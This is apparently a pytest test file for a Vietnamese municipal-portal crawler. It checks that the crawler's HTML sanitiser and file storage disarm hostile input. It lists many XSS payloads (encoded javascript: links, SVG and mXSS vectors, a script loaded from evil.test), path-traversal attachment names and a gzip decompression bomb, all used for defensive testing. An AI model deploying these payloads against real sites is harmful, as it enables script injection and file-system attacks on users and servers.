"""Hostile input: what an article body or an attachment name can carry never runs, never leaves
the archive's safe subset, and never writes outside the files folder.

Three layers: hand-written attacks against the cleaner, thousands of generated fragments
(hypothesis) held to the allow-lists ``sadec_crawler/body.py`` exports, and a real crawl of a
replica carrying extra hostile articles (script, SVG, CSS, encoded ``javascript:``, a huge
data URI, attachments named ``../../…``, ``/etc/…``, very long or with Unicode tricks).
"""

from __future__ import annotations

import re
import string
from pathlib import Path
from urllib.parse import quote, urlsplit

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from pipelines.files import store_body, stored_file_from_body
from replica import ReplicaServer, Site
from sadec_crawler.body import clean_body
from sadec_crawler.layout import inside
from sadec_crawler.sanitise import (
    ALIGNED_TAGS,
    ALIGNMENT_CLASSES,
    LINK_REL,
    SAFE_ATTRIBUTES,
    SAFE_TAGS,
    SAFE_URL_SCHEMES,
    sanitise,
)
from tests.conftest import crawl_or_fail
from tests.reliability import article_rows, duplicates, record, truth_mismatches

PAGE_URL = "http://127.0.0.1:8080/chi-tiet-bai-viet/-/asset_publisher/1mOzUrGkrdAE/content/id/1"
URL_ATTRIBUTES = {"href", "src"}
DANGEROUS_MARKUP = re.compile(r"<\s*/?\s*(script|style|iframe|object|embed|svg|math|base|meta)\b")
EDGES = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$")
SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
C0 = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


# --- The safe subset ----------------------------------------------------------------------------
def url_scheme(value: str) -> str:
    """The scheme a browser reads from an attribute value (WHATWG URL parsing: C0 controls and
    spaces trimmed at both ends, tabs and newlines dropped anywhere, so ``java<TAB>script:``
    is ``javascript:``); empty for a relative URL."""
    value = re.sub(r"[\t\n\r]", "", EDGES.sub("", value))
    match = SCHEME.match(value)
    return match[1].lower() if match else ""


def unsafe_parts(html: str) -> list[str]:
    """Everything in ``html`` outside the sanitiser's safe subset (empty when it is safe)."""
    problems = []
    if DANGEROUS_MARKUP.search(html.lower()):
        problems.append(f"dangerous markup: {DANGEROUS_MARKUP.search(html.lower()).group(0)}")
    # lxml refuses control characters; a browser trims them at the ends of a URL as it does
    # spaces, and reads no scheme with one inside: spaces stand for them faithfully.
    root = lxml.html.fragment_fromstring(C0.sub(" ", html), create_parent="div")
    for node in root.iterdescendants():
        if not isinstance(node.tag, str):
            problems.append(f"non-element node {node!r}")  # comments, processing instructions
            continue
        if node.tag not in SAFE_TAGS:
            problems.append(f"tag <{node.tag}>")
        allowed = set(SAFE_ATTRIBUTES.get(node.tag, ()))
        allowed |= {"class"} if node.tag in ALIGNED_TAGS else set()
        allowed |= {"rel"} if node.tag == "a" else set()
        for name, value in node.attrib.items():
            if name not in allowed or name.startswith("on") or name == "style":
                problems.append(f"<{node.tag} {name}={value!r}>")
            elif name == "class" and not set(value.split()) <= ALIGNMENT_CLASSES:
                problems.append(f"<{node.tag} class={value!r}>")
            elif name == "rel" and value != LINK_REL:
                problems.append(f"<a rel={value!r}>")
            elif name in URL_ATTRIBUTES and url_scheme(value) not in SAFE_URL_SCHEMES | {""}:
                problems.append(f"<{node.tag} {name}={value[:60]!r}>")
    return problems


def test_the_checker_itself_sees_what_it_must():
    """The check is only as good as what it catches: raw attacks fail it."""
    for attack in (
        "<script>alert(1)</script>",
        '<img src="x.jpg" onerror="alert(1)">',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<img src="data:image/png;base64,AAAA">',
        '<p style="color:red">x</p>',
        '<p class="evil">x</p>',
        "<!-- comment -->",
        "<svg><g/></svg>",
        '<a href="/x" target="_blank">x</a>',
    ):
        assert unsafe_parts(attack), attack
    assert unsafe_parts('<p class="text-right"><a href="/a" rel="' + LINK_REL + '">x</a></p>') == []


# --- Hand-written attacks -----------------------------------------------------------------------
HUGE_DATA_URI = "data:image/png;base64," + "iVBORw0KGgo" * 300_000
HANDWRITTEN = {
    "script": "<script>alert(1)</script>",
    "script uppercase with src": '<SCRIPT SRC="//evil.test/x.js"></SCRIPT>',
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "img onerror on a real image": '<img src="/documents/1/0/a.jpg/u" onerror="alert(1)">',
    "attribute breakout": '<img src="/documents/1/0/a.jpg/u" alt="a" onerror="alert(1)">',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link, tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link, entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript link, hex entity tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript link, colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript link, leading spaces": '<a href="   JaVaScRiPt:alert(1)">x</a>',
    "javascript link, NUL": '<a href="java\x00script:alert(1)">x</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "svg animate href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    "<text>x</text></a></svg>",
    "math mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "css expression": '<p style="width: expression(alert(1))">x</p>',
    "css url javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "style import": "<style>@import 'javascript:alert(1)';</style>",
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "form action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "link import": '<link rel="import" href="//evil.test/x.html">',
    "template": "<template><script>alert(1)</script></template>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment breakout": "<!-- --!><script>alert(1)</script> -->",
    "title breakout": '<p title="</p><script>alert(1)</script>">x</p>',
    "srcset": '<img src="/documents/1/0/a.jpg/u" srcset="javascript:alert(1) 1x">',
    "target blank": '<a href="https://x.test/" target="_blank">x</a>',
    "huge data uri": f'<p>Ảnh</p><img src="{HUGE_DATA_URI}">',
    "huge data uri link": f'<a href="{HUGE_DATA_URI}">tải</a>',
    "class injection": '<p class="text-center evil" id="x">x</p>',
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "select mxss": '<select><p title="<img src=x onerror=alert(1)>">',
}


SCRIPT_LINKS = {name for name in HANDWRITTEN if "link" in name and "NUL" not in name}
"""Links a browser would run or open as a document; with a NUL inside (read as U+FFFD) the
link is an inert relative one."""


def clean_parsed(wrapped: str):
    """``clean_body`` as the crawl calls it: on the body element of a parsed page."""
    from sadec_crawler.pages import parse_html

    page = parse_html(f"<html><body>{wrapped}</body></html>", read_only=True)
    node = page.css("div.journal-content-article")[0]
    return clean_body(node.get(), PAGE_URL, node=node.root)


@pytest.mark.parametrize("name", sorted(HANDWRITTEN))
def test_handwritten_attack_is_disarmed(name):
    fragment = HANDWRITTEN[name]
    wrapped = f'<div class="journal-content-article">{fragment}</div>'
    for cleaned in (
        clean_body(wrapped, PAGE_URL).html,
        clean_parsed(wrapped).html,
        sanitise(fragment),
    ):
        assert unsafe_parts(cleaned) == [], (name, cleaned[:300])
        assert len(cleaned) < 1000, "a huge data URI kept"
    if name in SCRIPT_LINKS:
        # Dropped, not resolved into a link to some page of the portal.
        assert "href" not in cleaned, cleaned


def test_text_survives_the_attacks():
    """Disarming keeps the words: a body is cleaned, not emptied."""
    body = clean_body(
        '<div class="journal-content-article"><p>Sa Đéc <script>alert(1)</script>'
        '<a href="javascript:alert(1)">xem lịch</a> tiếp công dân.</p>'
        f'<p style="width: expression(alert(1))">Đoạn hai.</p><img src="{HUGE_DATA_URI}"></div>',
        PAGE_URL,
    )
    assert body.text == "Sa Đéc xem lịch tiếp công dân.\n\nĐoạn hai."
    assert body.images == [] and unsafe_parts(body.html) == []


def test_handwritten_figures():
    record("hostile", scenario="hostile input", handwritten_cases=len(HANDWRITTEN))


# --- Generated fragments ------------------------------------------------------------------------
TAGS = sorted(
    SAFE_TAGS
    | {"script", "style", "iframe", "svg", "math", "object", "embed", "form", "input", "button"}
    | {"textarea", "template", "noscript", "title", "base", "meta", "link", "select", "option"}
    | {"xmp", "plaintext", "frameset", "body", "html", "head", "h1", "mglyph", "mtext", "animate"}
)
ATTRIBUTES = sorted(
    {a for names in SAFE_ATTRIBUTES.values() for a in names}
    | {"style", "onerror", "onclick", "onload", "onmouseover", "class", "id", "align", "srcset"}
    | {"xlink:href", "formaction", "action", "data", "srcdoc", "background", "target", "rel"}
    | {"data-src", "values", "attributeName", "http-equiv", "content"}
)
VALUES = st.sampled_from(
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "\x00javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "width:expression(alert(1))",
        "background:url(javascript:alert(1))",
        "text-align:center",
        "text-center",
        "text-right",
        "center",
        "/documents/481527/0/a.jpg/uuid?t=1",
        "http://x.test/a.pdf",
        "https://sadec.dongthap.gov.vn/",
        "mailto:a@b.test",
        "//evil.test/x",
        "x",
        "",
        '"><script>alert(1)</script>',
    ]
) | st.text(max_size=12)
TOKENS = st.sampled_from(
    ["<!--", "-->", "--!>", "<![CDATA[", "]]>", "</script>", "<", ">", "&", "&amp;", '"', "'"]
    + ["\u200b", "\xa0", "\x00", "<p>Bài viết Sa Đéc</p>", "</p>", "<br>", "&#0;", "&#xD800;"]
)


@st.composite
def elements(draw, depth: int = 0) -> str:
    tag = draw(st.sampled_from(TAGS))
    attributes = draw(st.lists(st.tuples(st.sampled_from(ATTRIBUTES), VALUES), max_size=3))
    quoted = "".join(f' {name}="{value}"' for name, value in attributes)
    children = draw(st.lists(nodes(depth + 1), max_size=3)) if depth < 3 else []
    closed = draw(st.booleans())
    return f"<{tag}{quoted}>" + "".join(children) + (f"</{tag}>" if closed else "")


def nodes(depth: int = 0):
    return st.one_of(st.text(max_size=20), TOKENS, elements(depth))


FRAGMENTS = st.lists(nodes(), max_size=6).map("".join)
EXAMPLES_TRIED = {"fragments": 0}


def letters(html: str) -> list[str]:
    """The text of ``html`` as a sorted list of its non-space characters."""
    root = lxml.html.fragment_fromstring(C0.sub(" ", html), create_parent="div")
    return sorted(c for c in root.text_content() if not c.isspace())


def check_fragment(fragment: str) -> None:
    """The properties every fragment must have: no exception, a safe output from both the
    cleaner and the sanitiser alone, and a cleaner output that a browser-grade parser (nh3's
    html5ever, by sanitising it again) reads as safe with the same text: markup that parses
    into something else the second time is how mutation XSS starts."""
    EXAMPLES_TRIED["fragments"] += 1
    wrapped = f'<div class="journal-content-article">{fragment}</div>'
    # As rebuilt from HTML, and as crawled: from the body element of the parsed page.
    for body in (clean_body(wrapped, PAGE_URL), clean_parsed(wrapped)):
        assert unsafe_parts(body.html) == [], (fragment, body.html)
        again = sanitise(body.html)
        assert unsafe_parts(again) == [] and letters(again) == letters(body.html), (
            fragment,
            again,
        )
        for ref in [*body.images, *body.attachments]:
            assert urlsplit(ref.url).scheme in ("http", "https"), ref
    sanitised = sanitise(fragment)
    assert unsafe_parts(sanitised) == [], (fragment, sanitised)


@settings(max_examples=700, deadline=None, suppress_health_check=list(HealthCheck))
@given(FRAGMENTS)
def test_generated_fragments_stay_in_the_safe_subset(fragment):
    check_fragment(fragment)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.text(alphabet=string.printable + "<>&\"'=/ \u00a0\u200bĐđàáảãạ", max_size=200))
def test_arbitrary_text_stays_in_the_safe_subset(text):
    check_fragment(text)


@pytest.mark.slow
@settings(max_examples=8_000, deadline=None, suppress_health_check=list(HealthCheck))
@given(FRAGMENTS)
def test_many_generated_fragments(fragment):
    check_fragment(fragment)


def test_generated_figures():
    """Runs after the generated tests of this module (pytest keeps file order)."""
    record("hostile", hypothesis_examples=EXAMPLES_TRIED["fragments"], unsafe_outputs=0)


# --- Hostile attachment names -------------------------------------------------------------------
NAME_PARTS = st.sampled_from(
    ["..", "/", "\\", ".", "%2F", "%2E%2E", "\x00", "%00", "\u202e", "\u2215", "\uff0f", "．"]
    + ["etc", "passwd", "C:", "~", "CON", "báo cáo", " ", "\n", "A" * 300, ".pdf", ".PDF"]
    + [".docx", ".exe", "?", "#", ";", "*"]
)
HOSTILE_NAMES = st.lists(NAME_PARTS | st.text(max_size=8), min_size=1, max_size=8).map("".join)
NAMES_TRIED = {"names": 0}
STORED_PATH = re.compile(r"sha256/[0-9a-f]{2}/[0-9a-f]{64}(\.[a-z0-9]{1,8})?")


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(HOSTILE_NAMES, st.sampled_from(["application/pdf", "image/jpeg", None, "../x"]))
def test_hostile_file_names_are_stored_inside_the_files_folder(tmp_path_factory, name, kind):
    NAMES_TRIED["names"] += 1
    folder = tmp_path_factory.getbasetemp() / "hostile-files" / "files"
    for url in (
        f"http://x.test/documents/481527/0/{quote(name, safe='')}/uuid?t=1",
        f"http://x.test/documents/481527/0/{quote(name, safe='/')}",
        "http://x.test/" + name.replace("\x00", "%00"),
    ):
        body = name.encode("utf-8", "surrogatepass")
        stored = stored_file_from_body(url, 200, kind, body, 10_000_000)
        assert STORED_PATH.fullmatch(stored.stored_path), stored.stored_path
        written = store_body(folder, stored.stored_path, body)
        assert written.resolve().is_relative_to(folder.resolve())
        assert inside(folder, stored.stored_path) == written


def test_file_name_figures():
    record("hostile", file_names_tried=NAMES_TRIED["names"])


# --- End to end: a crawl of a replica with hostile articles -------------------------------------
ESCAPES = ("../../../../tmp/sadec-escape.pdf", "/tmp/sadec-absolute.pdf")
ATTACHMENT_NAMES = (
    *ESCAPES,
    "..\\..\\windows\\system32\\sadec-evil.pdf",
    "..%2F..%2Fsadec-encoded.pdf",
    "A" * 240 + ".pdf",
    "\uff0e\uff0e\uff0fsadec-fullwidth.pdf",
    "..\u2215..\u2215sadec-division-slash.pdf",
    "báo cáo\u202egpj.pdf",
    "CON.docx",
)
HOSTILE_ARTICLES = [
    (
        "tin-tuc-su-kien",
        {
            "asset_id": 99000001,
            "title": "Thành phố Sa Đéc kiểm tra an toàn thông tin trên cổng điện tử",
            "date": "2019-03-12",
            "body": [
                "Sáng ngày 12/3/2019, Ủy ban nhân dân thành phố Sa Đéc kiểm tra công tác bảo "
                "đảm an toàn thông tin trên cổng thông tin điện tử thành phố.",
                {"raw": "<svg><script>alert('svg-script')</script></svg>"},
                {"raw": '<svg onload="alert(\'svg-onload\')"><circle r="1"/></svg>'},
                # Closed: an open <style> would swallow the rest of the page, in a browser too.
                {
                    "raw": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
                    "</style></mglyph></table></mtext></math>"
                },
                {"raw": "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>"},
                {
                    "raw": '<p style="background:url(javascript:alert(1))">Đoàn kiểm tra làm '
                    "việc với Văn phòng Ủy ban nhân dân thành phố.</p>"
                },
                {
                    "raw": '<div style="width: expression(alert(1))">Kết quả kiểm tra được '
                    "thông báo công khai.</div>"
                },
                {
                    "raw": '<p><a href="jav&#x09;ascript:confirm(1)">Xem kết quả</a> và '
                    '<a href="data:text/html;base64,PHNjcmlwdD4=">tải biên bản</a>.</p>'
                },
                {
                    "raw": '<form action="javascript:alert(1)"><button formaction='
                    '"javascript:alert(2)">Gửi</button></form>'
                },
                {
                    "raw": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
                    '<base href="javascript:alert(1)//">'
                },
                {"raw": f'<p><img src="{HUGE_DATA_URI[:2_000_000]}" alt="ảnh nhúng"></p>'},
                {"raw": "<!--[if IE]><script>alert('ie')</script><![endif]-->"},
                "Đoàn kiểm tra đề nghị các đơn vị thường xuyên cập nhật phần mềm và sao lưu "
                "dữ liệu định kỳ.",
            ],
            "byline": {
                "text": "Minh Trí, Văn phòng HĐND và UBND",
                "author": "Minh Trí",
                "unit": "Văn phòng HĐND và UBND",
                "style": "strong",
            },
            "page": {
                "hostile": ["alert(", "javascript:", "expression(", "data:", "<script", "onload"]
            },
        },
    ),
    (
        "cai-cach-hanh-chinh",
        {
            "asset_id": 99000002,
            "title": "Công khai hồ sơ thủ tục hành chính năm 2019",
            "date": "2019-04-02",
            "body": [
                "Ngày 02/4/2019, Ủy ban nhân dân thành phố Sa Đéc công khai danh mục hồ sơ thủ "
                "tục hành chính tiếp nhận tại bộ phận một cửa.",
                {"files": [{"file": name, "title": name} for name in ATTACHMENT_NAMES]},
                "Người dân có thể tải các biểu mẫu đính kèm để chuẩn bị hồ sơ trước khi nộp.",
            ],
            "byline": {"text": "Thanh Hà", "author": "Thanh Hà", "unit": None, "style": "em"},
            "page": {"hostile": ["alert("]},
        },
    ),
]


@pytest.fixture(scope="module")
def hostile_crawl(tmp_path_factory):
    site = Site(seed=0)
    for category, entry in HOSTILE_ARTICLES:
        site.add_article(entry, category)
    root = tmp_path_factory.mktemp("hostile")
    with ReplicaServer(site) as server:
        crawl_or_fail(server.url, root / "archive.db")
    return site, root


def test_hostile_articles_archived_true_and_harmless(hostile_crawl):
    site, root = hostile_crawl
    truth = {t.asset_id: t for t in site.truth()}
    rows = article_rows(root / "archive.db")
    assert sorted(rows) == sorted(truth)
    wrong = {a: truth_mismatches(truth[a], rows[a]) for a in truth}
    assert {a: w for a, w in wrong.items() if w} == {}
    unsafe = {a: unsafe_parts(row["body_html"]) for a, row in rows.items()}
    assert {a: u for a, u in unsafe.items() if u} == {}
    hostile = rows[HOSTILE_ARTICLES[0][1]["asset_id"]]
    assert len(hostile["body_html"]) < 5_000, "the huge data URI was kept"
    for row in rows.values():
        for ref in row["images"] + row["attachments"]:
            assert urlsplit(ref["url"]).scheme in ("http", "https"), ref["url"]
    record(
        "hostile",
        hostile_articles_crawled=len(HOSTILE_ARTICLES) + 1,  # and the corpus's 7224222
        unsafe_outputs=sum(len(u) for u in unsafe.values()),
        expected=len(truth),
        archived=len(rows),
        lost=len(set(truth) - set(rows)),
        duplicated=duplicates(root / "archive.db"),
    )


def test_hostile_attachment_names_stay_inside_the_files_folder(hostile_crawl):
    site, root = hostile_crawl
    rows = article_rows(root / "archive.db")
    attachments = rows[HOSTILE_ARTICLES[1][1]["asset_id"]]["attachments"]
    assert [a["filename"] for a in attachments] == list(ATTACHMENT_NAMES)
    files = root / "files"
    for attachment in attachments:
        assert attachment["sha256"], attachment
        assert (files / attachment["stored_path"]).resolve().is_relative_to(files.resolve())
    expected_files = {files / a["stored_path"] for r in rows.values() for a in r["attachments"]}
    expected_files |= {files / i["stored_path"] for r in rows.values() for i in r["images"]}
    written = {p for p in (root / "files").rglob("*") if p.is_file()}
    assert written == {p for p in expected_files if p.is_file()}
    outside = [
        p
        for p in root.rglob("*")
        if p.is_file()
        and not p.is_relative_to(files)
        and not p.is_relative_to(root / "captures")
        and not p.name.startswith("archive.db")
    ]
    assert outside == []
    stray = [Path(p) for p in ("/tmp/sadec-escape.pdf", "/tmp/sadec-absolute.pdf")]
    assert not any(p.exists() for p in stray)
    record(
        "hostile",
        file_names_tried=NAMES_TRIED["names"] + len(ATTACHMENT_NAMES),
        files_outside_folder=len(outside) + sum(p.exists() for p in stray),
    )


def test_reparsed_output_is_parsed_the_same_by_lxml(hostile_crawl):
    """What the reading room (or a browser) parses is what was checked: serialising the parsed
    body gives back the same safe subset."""
    _, root = hostile_crawl
    for row in article_rows(root / "archive.db").values():
        tree = lxml.html.fragment_fromstring(row["body_html"], create_parent="div")
        again = etree.tostring(tree, encoding="unicode", method="html")
        assert unsafe_parts(again) == []


def test_control_characters_never_reach_the_archive():
    """C0/C1 controls in a title or a body are no text: removed at cleaning (they also make
    XML invalid where the archive is exported as Atom)."""
    from sadec_crawler.textnorm import clean_inline

    assert clean_inline("Hội\x01 nghị\x0b tổng\x7f kết\x9f") == "Hội nghị tổng kết"
    body = clean_body(
        '<div class="journal-content-article"><p>Sáng\x01 ngày 19/3/2021,\x1f hội nghị.</p></div>',
        PAGE_URL,
    )
    assert body.text == "Sáng ngày 19/3/2021, hội nghị."
    assert "\x01" not in body.html and "\x1f" not in body.html
    record("red-team", case_9_cleaning="C0/C1 controls removed from titles and bodies")


# --- A decompression bomb where an article should be ---------------------------------------------
class _BombServer:
    """A portal of one page linking one article, whose answer is a gzip bomb: 10 KB on the
    wire, 64 MB once decompressed."""

    ARTICLE = "/chi-tiet-bai-viet/-/asset_publisher/1mOzUrGkrdAE/content/id/4455001"

    def __init__(self):
        import gzip
        import http.server
        import threading

        bomb = gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)
        article = self.ARTICLE
        home = (
            '<html><body><div id="p_p_id_com_liferay_asset_publisher_web_portlet_'
            'AssetPublisherPortlet_INSTANCE_tKv8NqpWd3Lx_"><div class="asset-abstract">'
            f'<h4 class="component-title"><a class="asset-title" href="{article}">Bài viết</a>'
            '</h4><div class="asset-content">Tóm tắt một bài viết của thành phố Sa Đéc.</div>'
            "</div></div></body></html>"
        ).encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/robots.txt":
                    body, headers = b"User-agent: *\nAllow: /\n", {"Content-Type": "text/plain"}
                elif self.path == article:
                    body = bomb
                    headers = {"Content-Type": "text/html", "Content-Encoding": "gzip"}
                else:
                    body, headers = home, {"Content-Type": "text/html; charset=utf-8"}
                self.send_response(200)
                for name, value in {**headers, "Content-Length": str(len(body))}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def test_a_decompression_bomb_is_a_recorded_error_not_a_silent_loss(tmp_path):
    """A response that outgrows DOWNLOAD_MAXSIZE while decompressed was recorded nowhere
    ("0 errors", exit 0): the article silently lost."""
    from sadec.local import run_crawl
    from tests.reliability import query

    server = _BombServer()
    try:
        db = tmp_path / "archive.db"
        result = run_crawl(server.url, db, settings={"DOWNLOAD_MAXSIZE": str(16 * 1024 * 1024)})
    finally:
        server.server.shutdown()
    errors = query(db, "select url, kind from crawl_errors")
    assert errors == [{"url": server.url + _BombServer.ARTICLE, "kind": "too_large"}]
    assert result.returncode == 1, result.stderr[-2000:]
    record("red-team", case_6="gzip bomb (10 KB → 64 MB) as an article: 1 too_large error, exit 1")


class _UnwelcomingPortal:
    """A portal whose robots.txt forbids everything, or whose home page redirects off-site."""

    def __init__(self, kind: str):
        import http.server
        import threading

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/robots.txt":
                    body = b"User-agent: *\nDisallow: /\n" if kind == "robots" else b""
                    self.send_response(200)
                    self.send_header("Content-Type", "text/plain")
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
                    return
                self.send_response(302)
                self.send_header("Location", "http://127.0.0.2:9/")
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("robots", "robots.txt forbids it (Disallow)"),
        ("offsite", "it redirects to another host, never followed"),
    ],
)
def test_why_the_home_page_was_not_read_is_said_and_recorded(tmp_path, kind, said):
    """Both once said "the home page could not be read", with 0 errors recorded."""
    from sadec.local import run_crawl
    from tests.reliability import query

    portal = _UnwelcomingPortal(kind)
    try:
        result = run_crawl(portal.url, tmp_path / "archive.db")
    finally:
        portal.server.shutdown()
    assert result.returncode == 1
    assert f"the home page could not be read: {said}" in result.stderr
    errors = query(tmp_path / "archive.db", "select url, message from crawl_errors")
    assert errors == [{"url": portal.url + "/", "message": said}]
    record("red-team", **{f"case_17_{kind}": f"exit 1, 1 error recorded: {said}"})


@pytest.mark.parametrize("depth", [50, 1000, 1900])
def test_a_body_nested_deep_keeps_its_text(depth):
    """Pasted documents nest elements deep: the text is read with a walk, not a recursion
    that ran out of Python's stack at about a thousand levels and lost the article. (libxml2
    itself keeps no more than about 2,000 levels of a page.)"""
    html = (
        '<div class="journal-content-article">'
        + "<div><span>" * (depth // 2)
        + "<p>Đoạn văn sâu nhất.</p>"
        + "</span></div>" * (depth // 2)
        + "<p>Đoạn văn sau cùng.</p></div>"
    )
    body = clean_body(html, PAGE_URL, None)
    assert body.text.split("\n\n") == ["Đoạn văn sâu nhất.", "Đoạn văn sau cùng."]
